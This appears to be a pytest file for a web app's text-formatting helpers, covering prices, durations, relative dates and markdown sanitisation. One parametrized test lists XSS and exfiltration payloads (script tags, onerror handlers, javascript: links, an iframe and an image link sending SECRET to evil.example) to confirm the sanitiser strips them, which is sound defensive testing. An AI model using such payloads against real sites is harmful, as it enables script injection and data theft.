import re
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st

from app.web import words

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("micros", "text"),
    [
        (None, "price unknown"),
        (0, "free"),
        (1, "< 0.01 ct"),
        (99, "< 0.01 ct"),
        (2_400, "0.24 ct"),
        (99_999, "10.00 ct"),
        (100_000, "$0.10"),
        (4_120_000, "$4.12"),
        (1_234_500_000, "$1,234.50"),
        (-2_400, "-0.24 ct"),
    ],
)
def test_money_reads_as_the_design_says(micros, text):
    assert words.money(micros) == text


@given(st.integers(min_value=1, max_value=10**12))
def test_what_costs_something_never_reads_as_nothing(micros):
    assert words.money(micros) not in ("free", "0.00 ct", "$0.00")


@pytest.mark.parametrize(
    ("ms", "text"),
    [(None, ""), (0, "< 1 ms"), (0.4, "< 1 ms"), (40, "40 ms"), (600, "0.6 s"), (12_000, "12 s"), (60_000, "1 min"),
     (125_000, "2 min 5 s"),
     (11_400_000, "3 h 10 min"), (59_700, "1 min")],
)  # fmt: skip
def test_durations_read_as_the_design_says(ms, text):
    assert words.duration(ms) == text


@pytest.mark.parametrize(
    ("delta", "text"),
    [
        (timedelta(seconds=3), "just now"),
        (timedelta(minutes=1), "1 minute ago"),
        (timedelta(minutes=5), "5 minutes ago"),
        (timedelta(hours=3), "3 hours ago"),
        (timedelta(hours=30), "yesterday"),
        (timedelta(days=3), "18 Nov"),
        (timedelta(days=400), "17 Oct 2025"),
        (timedelta(minutes=-10), "in 10 minutes"),
        (timedelta(days=-7), "28 Nov"),
    ],
)
def test_moments_are_told_from_now(delta, text):
    with time_machine.travel(NOW, tick=False):
        shown = words.ago(NOW - delta)
    assert f">{text}</time>" in shown and 'datetime="20' in shown


def test_what_never_happened_says_so():
    assert words.ago(None) == "never"


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=SECRET)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>)",
        '<a href="x" hx-get="/sign-out" data-hx-post="/x" _="on click">x</a>',
        "<form action=/sign-out><button>x",
        "<style>*{display:none}</style>",
        "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
        "<iframe src=//evil.example></iframe>",
    ],
)
def test_markdown_of_strangers_and_models_can_neither_act_nor_load(evil):
    html = str(words.markdown(f"before {evil} after"))
    tags = [tag.lower() for tag in re.findall(r"<([^>]*)>", re.sub(r'title="[^"]*"', "", html))]
    for tag in tags:
        assert not tag.startswith(("script", "img", "form", "iframe", "style", "button")), html
        assert not any(word in tag for word in (" on", "hx-", "javascript:", "data:", " style", " _=")), html


def test_markdown_keeps_what_people_write():
    html = words.markdown("# T\n\n**b** [l](https://a.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```")
    for part in (
        "<h1>T</h1>",
        "<strong>b</strong>",
        '<a href="https://a.example" rel="noopener noreferrer nofollow">',
        "<td>1",
    ):
        assert part in html


@given(st.text())
def test_an_id_of_an_element_has_only_id_characters(ident):
    assert all(c.isalnum() or c in "_-" for c in words.dom_id("flow", ident))
